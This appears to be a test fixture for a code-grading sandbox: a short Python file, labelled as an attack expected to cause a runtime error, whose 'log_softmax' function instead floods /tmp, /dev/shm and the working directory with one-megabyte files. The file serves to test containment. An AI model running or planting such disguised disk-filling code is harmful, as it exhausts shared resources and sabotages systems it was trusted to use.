# expect: RE
# attack: fill /tmp, /dev/shm and the working directory with many files
import os


def log_softmax(x, dim=-1):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
        for i in range(100000):
            with open(os.path.join(folder, f"mlj-pwned-fill-{i}"), "wb") as f:
                f.write(b"\0" * (1 << 20))


cross_entropy = log_softmax
